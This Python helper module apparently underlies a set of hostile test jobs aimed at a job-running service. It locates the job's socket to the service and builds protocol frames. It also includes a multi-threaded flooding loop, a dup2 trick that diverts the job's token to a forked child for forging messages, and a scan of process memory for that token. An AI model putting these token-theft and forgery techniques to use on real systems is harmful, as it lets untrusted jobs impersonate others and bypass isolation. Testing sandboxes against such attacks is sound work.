"""What every program here begins with: the socket to the service, and the ways to a job's token."""
import ctypes
import os
import signal
import socket
import stat
import struct
import threading
import time


def find_channel():
    """The one socket among the descriptors."""
    for number in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                return number
        except OSError:
            pass
    raise LookupError("there is no socket")


CHANNEL = find_channel()


def send(data, descriptor=CHANNEL):
    """Sends all of it, if the other side takes it."""
    rest = memoryview(data)
    while rest:
        rest = rest[os.write(descriptor, rest):]


def endless(data, descriptor=CHANNEL):
    while True:
        send(data, descriptor)


def in_threads(work, count=8):
    for _ in range(count):
        threading.Thread(target=work).start()
    time.sleep(60)


def frame(token, kind, payload, length=None, files=b""):
    return token + kind + struct.pack("<II", len(payload) if length is None else length, len(files)) + payload + files


def entry(name, content, size=None, kind=0):
    """A file in an answer."""
    return struct.pack("<BIQ", kind, len(name), len(content) if size is None else size) + name + content


def omitted(count):
    """What all files in an answer begin with."""
    return struct.pack("<I", count)


def with_token(forge):
    """Calls `forge` with the token and the channel, in a child. The token comes from the script's own answer: it goes
    to the child instead of the service, and is too large to be sent off before the child has read of it."""
    ours, theirs = socket.socketpair()
    channel = os.dup(CHANNEL)
    if os.fork() == 0:
        forge(ours.recv(16, socket.MSG_WAITALL), channel)
        time.sleep(60)
    os.dup2(theirs.fileno(), CHANNEL)
    return "x" * (4 << 20)


def token_in_memory(timeout):
    """What lies beside the job's time limit in this process's memory and looks like a token."""
    pattern = struct.pack("<QI", int(timeout), int(timeout % 1 * 1e9))
    with open("/proc/self/maps") as maps:
        areas = [line.split() for line in maps if " rw-p " in line]
    for area in areas:
        start, end = (int(place, 16) for place in area[0].split("-"))
        memory = ctypes.string_at(start, end - start)
        at = memory.find(pattern)
        while at >= 0:
            for place in range(max(at - 256, 0) // 8 * 8, at + 256, 8):
                token = memory[place : place + 16]
                if len(set(token)) > 12 and token.count(0) == 0:
                    return token
            at = memory.find(pattern, at + 1)
    return None
